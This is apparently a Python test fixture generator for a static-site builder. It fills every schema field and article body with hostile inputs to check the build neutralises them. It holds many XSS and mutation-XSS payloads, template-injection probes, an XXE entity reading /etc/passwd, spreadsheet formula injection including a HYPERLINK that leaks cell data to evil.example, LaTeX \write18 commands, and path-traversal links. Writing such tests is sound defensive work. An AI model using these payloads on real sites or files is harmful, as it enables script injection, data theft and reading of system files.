"""What may somebody put into content who means harm? Every text field of the schema, and texts of articles, full of it.

`python -m tests.hostile FOLDER` writes the digest. It is made by walking the schema: a new field is attacked without a
line here, and where its words must resolve the build says so. Whatever an attack reaches calls `hit()`, asks `EVIL` for
something, or breaks out of its place.
"""

import re
import sys
from collections.abc import Callable, Iterator, Mapping
from itertools import count
from pathlib import Path
from typing import Any
from unicodedata import normalize

import msgspec.inspect as mi
import yaml

from attache.contents import FILES, FOLDERS
from attache.schema import ArticleFigure, ArticleFile, Correction, EventEntry

EVIL = "evil.example"
LONG = "W" * 3_000

# Texts, each of which some format would take for more than text. None is an error: what is refused stands in `REFUSED`.
TEXTS = (
    f"\"'><script>hit()</script><img src=//{EVIL}/x onerror=hit()><svg/onload=hit()>",
    "</title></style></script></textarea></noscript></template></main></div></body><script>hit()</script><!--",
    "]]>--!><![CDATA[<script>hit()</script>]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;&lt;b&gt;&#0;",
    '" onmouseover="hit()" autofocus onfocus=hit() style=position:fixed;inset:0 \'`x',
    "{{ 7*7 }}{% raw %}{# x #}${7*7}<%= 7*7 %>%(title)s%s{n}{words}{0.__class__} $& $1 \\g<0>",
    'a\r\nEND:VEVENT\r\nBEGIN:VEVENT\nATTENDEE:mailto:x@y;,\\N \\n "q":b\u2028\u0085c\n\n@misc{x,\n\n# h',
    f'=HYPERLINK("https://{EVIL}/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3\t=1+1\r@SUM(A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1\uff0c\uff0b1 \uff1cscript\uff1e",
    'x}, note = {\\input{/etc/passwd}}} @misc{x, $\\write18{ls}$ \\\\ % ~ ^ # _ & "x" {',
    "[[a|<b>x</b>]] [x](javascript:hit()) ![x](//evil.example/x.png) <!-- \ue0000\ue001 #\ue0020\ue001",
    f"javascript:hit()//https://{EVIL}/ data:text/html,<script>hit()</script> //{EVIL}/",
    f"{LONG} {'<i>' * 100}",
    "\u202egpj.exe\u202d \u2067open \u200b\u2060\ufeff\u00ad\U000e0041 Z"
    + "\u0307\u0323" * 60
    + " "
    + "\u05d0\u0301" * 3,
    "constructor __proto__ toString hasOwnProperty length",
)
REFUSED_TEXTS = ("\x1b[2J\x1b]0;x\x07", "a\x00b", "\x9b31m", "a\x08\x08b", "\ud800", "\ufffe")

# What every object of JavaScript has.
KEYS = ("__proto__", "constructor", "hasOwnProperty")

# Texts whose words must lead somewhere, by the name of the field; `{n}` is the number of the file.
WORDS: Mapping[str, Any] = {
    "countries": ["FR", "JP"],
    "country": "JP",
    "host": ["FR"],
    "areas": ["areas-{n}"],
    "area": "areas-{n}",
    "organisations": ["organisations-{n}"],
    "agreements": ["agreements-{n}"],
    "series": "series-{n}",
    "topics": ["other"],
    "kind": "visit",
    "parent": None,
    "ref": None,
    "edition": None,
    "article": "self",
    "post": "post-{n}",
    "rank": "general",
    "event": "event-{n}",
    "signed": "event-{n}",
    "sort": "{n:03}",
    "formerly": ["former-{kind}-{n}"],
    "aliases": ["/old/{n}\"'><svg/onload=hit()>&<!--{{{{7*7}}}}:/"],
    "home_country": "FR",
    "date": "2024-05-{n:02}",
    "as_of": "2024-05-{n:02}",
    "window": "2024-05-01/2024-05-31",
    "period": "2016/2021",
    "held": "2001-01-01/..",
    "in_force": "2001-01-01/..",
    "paused": ["2002"],
    "existed": "1900/..",
    "status": None,
    "expiry": None,
    "withdrawn": None,
    "draft": None,
    "file": "picture-{n}.png",
    "slug": None,
}
SITE = {
    "url": "https://hostile.example/below/",
    "identity": "hostile.example,2000",
    "timezone": "UTC",
    "languages": ["en-GB"],
    "outputs": ["feeds", "archives", "intersections", "calendars", "data", "search"],
    "hub": f"https://{EVIL}/hub",
    "email": "'onfocus='hit()'@evil.example",
}
URL = f"https://{EVIL}/?a='onclick=hit()&b=%22%3E%3Cscript%3E&{{{{7*7}}}}"
GIVEN = {
    "language": "en-GB",
    "translated_from": "fr",
    "wikidata": "Q42",
    "retrieved": "2024-05-01",
    "updated": "2024-06-01",
    "expires": "2027-06-01",
}

# Markdown that is built: whatever comes of it, none of it may do more than be read.
BODIES = (
    "<script>hit()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script/x>hit()</script\t\n bar>",
    "<svg onload=hit()><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:hit()'><text y=20>x</text></a><set attributeName=href to=javascript:hit()></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'/></svg>",
    "<svg><style><img src=x onerror=hit()&gt;</style></svg>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object><embed src=//evil.example/x.swf><applet code=x></applet>",
    "<form action=javascript:hit()><button formaction=javascript:hit()></button><input autofocus onfocus=hit()></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/><a href='/about/'>x</a>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css';*{position:fixed}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/x)'>x</p>",
    "<p style=width:expression(hit())>x</p>",
    "<body onload=hit() background=//evil.example/x><p>x</p></body></html>",
    "<frameset onload=hit()><frame src=//evil.example>",
    "<a href=javascript:hit()>x</a>",
    "<a href='JaVaScRiPt:hit()'>x</a>",
    "<a href='java&#10;script:hit()'>x</a>",
    "<a href='&#1;javascript:hit()'>x</a>",
    "<a href=' javascript:hit()'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;hit()'>x</a>",
    "<a href='javascript&colon;hit()'>x</a>",
    "<a href='data:text/html,<script>hit()</script>'>x</a>",
    "<a href='vbscript:hit()'>x</a>",
    "<a href='blob:x'>x</a>",
    "<a href='view-source:javascript:hit()'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='intent://x#Intent;end'>x</a>",
    "<a href='https://user:secret@evil.example/'>x</a>",
    "<a href='//evil.example/' target=_top ping=//evil.example/p>x</a>",
    "<a href=https://evil.example onclick=hit() onpointerrawupdate=hit()>x</a>",
    "<a href='feed:javascript:hit()'>x</a>",
    "<p onclick=hit() onmouseover=hit() onfocus=hit() tabindex=0 autofocus accesskey=x>x</p>",
    "<details open ontoggle=hit()>x</details>",
    "<video src=//evil.example/v autoplay onloadstart=hit()><source onerror=hit()></video><audio src=//evil.example/a>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<input type=image src=//evil.example/x onerror=hit()>",
    "<table background=//evil.example/x><tr><td background=javascript:hit()>x</table>",
    "<bgsound src=//evil.example/x>",
    "<marquee onstart=hit()>x</marquee>",
    "<isindex action=javascript:hit() type=image>",
    "<keygen autofocus onfocus=hit()>",
    "<xss style=animation-name:x onanimationstart=hit()>x</xss>",
    "<x contenteditable onblur=hit()>x</x>",
    "<template><script>hit()</script></template>",
    "<template shadowrootmode=open><script>hit()</script></template>",
    "<noscript><p title='</noscript><script>hit()</script>'>",
    "<textarea><p title='</textarea><script>hit()</script>'>",
    "<title><p title='</title><script>hit()</script>'>",
    "<style><p title='</style><script>hit()</script>'>",
    "<xmp><p title='</xmp><script>hit()</script>'>",
    "<noembed><p title='</noembed><script>hit()</script>'>",
    "<plaintext><script>hit()</script>",
    "<listing>&lt;script>hit()</script></listing>",
    "<select><style></select><script>hit()</script>",
    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;script&gt;hit()&lt;/script&gt;'>",
    "<math><annotation-xml encoding=text/html><style><p title='</style><script>hit()</script>'></math>",
    "<svg><foreignObject><p><script>hit()</script></p></foreignObject></svg>",
    "<svg></p><style><a id='</style><script>hit()</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><script>hit()</script>",
    "<math href=javascript:hit()>x</math>",
    "<svg><desc><noscript><p title='</noscript><script>hit()</script>'></desc></svg>",
    "<svg><title><style><b>x</style></title></svg>",
    "<!--><script>hit()</script>-->",
    "<!-- --!><script>hit()</script> -->",
    "<!--[if gte IE 4]><script>hit()</script><![endif]-->",
    "<![CDATA[<script>hit()</script>]]>",
    "<?xml version='1.0'?><?php hit() ?>",
    "<!DOCTYPE x [<!ENTITY e 'x'>]>&e;",
    "</><///script>hit()",
    "<a title='x` onmouseover=hit() `' href=#>x</a>",
    '<p title="&quot;&gt;&lt;script&gt;hit()&lt;/script&gt;">x</p>',
    "<p title='{{7*7}}'>{{7*7}}</p>",
    "<a href='https://evil.example/\" onmouseover=\"hit()'>x</a>",
    "<p lang='x\"onclick=hit()' dir='rtl\"x'>x</p>",
    "<p/onclick=hit()/>x</p/>",
    "<div id=s:main name=s:main class='mast foot'>x</div>",
    "<form id=display><input name=dataset></form><a id=fold name=fold>x</a>",
    "<p id=getElementById>x</p><a name=body href=#>x</a><li id='fn:x\"><script>hit()</script>'>x</li>",
    "<sup id='fnref:\" onclick=hit()'>x</sup>",
    "</div></div></div></article></main></div></body></html><p>out</p>",
    "</p></td></tr></table></section><header class=mast>out</header>",
    "<main><header><footer><nav><search><h1>x</h1></search></nav></footer></header></main>",
    "<h1>x</h1><h6>y</h6><title>z</title>",
    "<p>unclosed <b><i><a href='https://evil.example/'>x",
    "<p title='never closed",
    "<table><tr><td>unclosed",
    "<blockquote><ul><li><pre><code>x",
    "<bdo dir=rtl>never closed",
    "<p dir=rtl>x</p><bdi>y",
    "<ol reversed start=-99999999><li value=99999999>x</ol>",
    "<details><summary>x",
    "[x]: javascript:hit()\n\n[x] [y][x]",
    "[x](<javascript:hit()>)",
    "[x](javascript&#58;hit&#40;&#41;)",
    "[x](  JAVASCRIPT:hit() 'title')",
    '[x](https://evil.example/ "t" onmouseover="hit()")',
    "[x](https://evil.example/ '\"><script>hit()</script>')",
    "<javascript:hit()>",
    "<data:text/html,x>",
    "[<script>hit()</script>](https://evil.example/)",
    "[x]: https://evil.example/ '\"><img onerror=hit()>'\n\n[x]",
    '<https://evil.example/"onclick=hit()>',
    "```\n<script>hit()</script>\n```\n<script>hit()</script>",
    "    <script>hit()</script>\n\n`<script>hit()</script>`",
    '``` html" onclick="hit()\n</code></pre><script>hit()</script>\n```',
    'x[^"><script>hit()</script>]\n\n[^"><script>hit()</script>]: <script>hit()</script>',
    "x[^s:main] y[^fn]\n\n[^s:main]: a\n[^fn]: b",
    "# <script>hit()</script> x {#s:main onclick=hit()}",
    "# s:main\n\n# masthead\n\n# constructor\n\n# <b>x</b> `</h2>`",
    "| <script>hit()</script> | b |\n|:--|--:|\n| </td></table> | x |",
    '*[x]: "><script>hit()</script>\n\nx',
    "Term\n: <script>hit()</script>",
    "[[text-0|<script>hit()</script>]]",
    '[[text-0|"><img onerror=hit()>]]',
    "[[text-0|</a><b>x]] [x](https://evil.example/[[text-0]])",
    "`[[text-0|<b>]]` <p title='[[text-0]]'>x</p>",
    "<script>[[text-0]]</script>",
    "\ue0000\ue001 \ue0020\ue001 #\ue0020\ue001 &#xe000;0&#xe001;",
    "<a href='https://evil.example/#&#xe002;0&#xe001;javascript:'>x</a>",
    "[x](https://evil.example/)&#xe002;0&#xe001;",
    "wzxhzdk:0 &#2;klzzwxh:0000&#3; &#2;wzxhzdk:0&#3;",
    "&lt;script&gt;hit()&lt;/script&gt; &amp;lt;script&amp;gt; &#60;script&#62;hit()&#60;/script&#62;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\\<script>hit()\\</script>",
    "{{ 7*7 }} {% include '/etc/passwd' %} {# x #} ${7*7} <%= 7*7 %>",
    "]]> ]]&gt; <content:encoded> </description></item>",
    "BEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT\n=1+1",
)

# Markdown that strains the layout; `{long}` has no blank in it.
WIDE = (
    "W" * 100_000,
    f"# {LONG}\n\n## {LONG}\n\n## b\n\n## c\n\n## d",
    f"[{LONG}](https://evil.example/{LONG})",
    f"`{LONG}`\n\n```\n{LONG}\n```",
    f"> {'> ' * 40}deep",
    f"- {LONG}\n{''.join('  ' * n + '- x' + chr(10) for n in range(1, 30))}",
    "|" + "x|" * 200 + "\n|" + "-|" * 200 + "\n|" + f"{LONG[:99]}|" * 200,
    f"<table><tr><td colspan=99999 rowspan=99999>{LONG}</td><th scope=col>x</th></tr></table>",
    f"<dl><dt>{LONG}<dd>{LONG}</dl><figure><figcaption>{LONG}</figcaption></figure>",
    "Z" + "\u0307\u0323" * 400 + " and after it",
    "\u202eevil\u202d \u2067open \u2066and <b>bold \u202e</b> then",
    "<bdo dir=rtl>reversed</bdo> and <bdo dir=rtl>open",
    f"<details><summary>{LONG}</summary><p>{LONG}</details>",
    f"{'>' * 3_000} deep",
    f"{'<blockquote>' * 600}deep",
    f"{'<sup>' * 60}high{'<sub>' * 60}low",
    f"{'<ul><li>' * 300}deep",
    f"{'<details>' * 300}deep",
    f"{'<bdo dir=rtl>' * 300}deep",
    "[[[[" * 20,
    f"{'- ' * 300}deep",
    "*_`~" * 2_000,
    f"<pre>{LONG}</pre><samp>{LONG}</samp><q>{LONG}</q><small>{LONG}</small><sup>{LONG}</sup>",
    f"x[^1]\n\n[^1]: {LONG}",
    f"<div>{'<div>' * 400}deep",
    "<br>" * 500 + "<hr>" * 50,
    f"<ol start=2147483647 type=I><li>{LONG}</ol>",
    f"*[{LONG}]: x\n\n{LONG}\n\n{LONG}\n: {LONG}",
    "\ufdfd" * 300,
    "\U00012031" * 50,
    "\u0e01" + "\u0e47" * 300 + "\u0e01" * 300,
    "&nbsp;" * 3_000,
    f"<aside>{LONG}</aside><section>{LONG}</section><p dir=rtl>{LONG}</p>",
)

# Markdown that closes the gate: a picture would be loaded from elsewhere, a link pretends to stay here.
REFUSED = (
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "<img src=x onerror=hit()>",
    "<img src='/\\evil.example/x' alt=x>",
    "<img src='https://evil.example/x' srcset='//evil.example/y 2x' width=99999 height=99999>",
    "![x][y]\n\n[y]: https://evil.example/y.png",
    "<p><img alt=x title='a>b' src=\"https:evil.example/x\"></p>",
    "[![x](x.png)](https://evil.example/)",
    "<image src=x onerror=hit()>",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example)",
    "<a href='java\tscript:hit()'>x</a>",
    "<a href='/&#92;evil.example/'>x</a>",
    "[x](/&Tab;/evil.example/)",
    "[x](../../../../etc/passwd)",
    "[[<script>hit()</script>]]",
    "[[../../etc/passwd|x]]",
)

Say = Callable[[int, int], str]


def hostile(which: int, number: int) -> str:
    """Give one of the texts, with a number, so that no two are the same."""
    return f"{TEXTS[which % len(TEXTS)]} n{number}"


def harmless(_which: int, number: int) -> str:
    """Give a text with a number that means nothing to anybody."""
    return f"Text n{number}"


def site(say: Say = hostile) -> dict[str, str]:
    """Give all files but pictures: of each kind as many as there are texts, so that each field has them all."""
    walk = _Walk(say)
    made = {path: _yaml(walk.file(kind, 1, path)) for path, kind in FILES.items()}
    for folder, kind in FOLDERS.items():
        for n in range(1, len(TEXTS) + 1):
            front = walk.file(kind, n, folder)
            name = (
                "jp",
                "fr",
                "vn",
                "de",
                "us",
                "cn",
                "la",
                "ru",
                "in",
                "gb",
                "th",
                "kh",
                "au",
                "kr",
                "id",
                "my",
                "sg",
            )[n - 1]
            made[f"{folder}/{name if folder == 'countries' else f'{folder}-{n}'}.md"] = _file(front, f"Of file {n}.")
    return made


def texts(bodies: tuple[str, ...]) -> dict[str, str]:
    """An article for each of some texts."""
    made = {"site.yaml": "title: Texts\nurl: https://hostile.example/below/\nidentity: hostile.example,2000\n"}
    for n, body in enumerate(bodies):
        front: dict[str, Any] = {"id": f"text-{n}", "title": f"Text {n}", "date": f"2023-01-{n % 28 + 1:02}"}
        if n == 0:
            front |= {"officials": [*KEYS], "tags": [*KEYS]}
        made[f"articles/text-{n}.md"] = _file(front, body)
    return made


class _Walk:
    """Writes values of every type of the schema; texts that may say anything are numbered as they come."""

    def __init__(self, say: Say) -> None:
        self.say, self.numbers, self.turn = say, count(), count()

    def file(self, kind: type[Any], n: int, where: str) -> dict[str, Any]:
        """Give the front matter of the file of a number: each of its fields has another text than in the one before."""
        self.turn = count(n)
        return self.struct(kind, n, where) | (self.fixed(where, n) if where in FOLDERS else {})

    def text(self) -> str:
        """Give the next text."""
        return self.say(next(self.turn), next(self.numbers))

    def fixed(self, folder: str, n: int) -> dict[str, Any]:
        """What of a file must be so and not otherwise: ids, and what two of its fields have to do with each other."""
        more: dict[str, Any] = {"id": None if folder == "countries" else f"{folder}-{n}"}
        if folder == "articles":
            more |= {"series": [f"series-{n}"]}
        elif folder not in ("pages",):
            more |= {"aliases": [self.text()]}
        if folder == "organisations":
            more |= {"kind": "ministry"}
        if folder in ("pages", "countries"):
            more |= {"aliases": None}
        if folder == "agreements":
            more |= {"kind": "treaty"}
        return more

    def struct(self, kind: type[Any], n: int, where: str) -> dict[str, Any]:
        """Give every field of a struct a value."""
        info = mi.type_info(kind)
        assert isinstance(info, mi.StructType)
        values = {field.encode_name: self.field(field.encode_name, field.type, n, where, kind) for field in info.fields}
        return {name: value for name, value in values.items() if value is not None}

    def field(self, name: str, type_: mi.Type, n: int, where: str, kind: type[Any]) -> Any:
        known = {**WORDS, **GIVEN, **(SITE if where == "site.yaml" else {})} if where != "vocabulary.yaml" else {}
        if name == "host" and kind is not EventEntry:
            return self.text()
        if name == "date" and kind is not ArticleFile and kind is not EventEntry:
            return "2024-05-01"
        if name == "events" and kind is Correction:
            return [f"event-{n}"]
        if name == "series" and kind is ArticleFigure:
            return f"figures-{n}"
        if name == "id":
            return {"EventEntry": f"event-{n}", "Post": f"post-{n}"}.get(kind.__name__, f"{where}-{n}")
        if name in known:
            return _numbered(known[name], n, where)
        return self.value(type_, n, where)

    def value(self, type_: mi.Type, n: int, where: str) -> Any:
        match type_:
            case mi.Metadata(type=inner):
                return URL if (type_.extra or {}).get("check") == "url" else self.value(inner, n, where)
            case mi.UnionType(types=types):
                return self.value(next(one for one in types if not isinstance(one, mi.NoneType)), n, where)
            case mi.StructType(cls=cls):
                return self.struct(cls, n, where)
            case mi.VarTupleType(item_type=item):
                return [self.value(item, n, where)]
            case mi.DictType(key_type=key, value_type=item):
                return {name: self.value(item, n, where) for name in _keys(key)}
            case mi.LiteralType(values=values):
                return str(values[n % len(values)])
            case mi.BoolType():
                return "no"
            case mi.IntType() | mi.FloatType():
                return "3"
            case mi.StrType(pattern=None):
                return self.text()
            case mi.StrType(pattern=str(pattern)) if re.search(pattern, URL):
                return URL
        raise TypeError(f"no value is known for {type_}: name the field in `WORDS`")


def _keys(type_: mi.Type) -> tuple[str, ...]:
    inner = type_.type if isinstance(type_, mi.Metadata) else type_
    if isinstance(inner, mi.LiteralType):
        return tuple(map(str, inner.values))
    assert isinstance(inner, mi.StrType)
    return ("und",) if inner.pattern and "{2,3}" in inner.pattern else ("visit", "general", "other", "ministry")


def _numbered(value: Any, n: int, kind: str) -> Any:
    if isinstance(value, list):
        return [_numbered(item, n, kind) for item in value]
    return value.format(n=n, kind=kind) if isinstance(value, str) and "{n" in value else value


def _yaml(front: Mapping[str, Any]) -> str:
    known = {name: value for name, value in front.items() if value is not None}
    return str(yaml.dump(known, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=10**9))


def _file(front: Mapping[str, Any], body: str) -> str:
    return f"---\n{_yaml(front)}---\n{body}\n"


class _Dumper(yaml.SafeDumper):
    """Writes no aliases."""

    def ignore_aliases(self, _data: object) -> bool:
        return True


def write(folder: Path, files: Mapping[str, str]) -> None:
    """Write files below `content/` of a folder."""
    for path, text in files.items():
        file = folder / "content" / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(normalize("NFC", text), encoding="utf-8", newline="")


def pictures() -> Iterator[tuple[str, bytes]]:
    """Yield the pictures of the articles."""
    from io import BytesIO  # noqa: PLC0415

    from PIL import Image  # noqa: PLC0415

    for n in range(1, len(TEXTS) + 1):
        data = BytesIO()
        Image.new("RGB", (40, 30), (n, 0, 0)).save(data, "PNG")
        yield f"articles/picture-{n}.png", data.getvalue()


if __name__ == "__main__":
    write(Path(sys.argv[1]), {**site(), **texts((*BODIES, *WIDE))})
    for path, data in pictures():
        (Path(sys.argv[1]) / "content" / path).write_bytes(data)
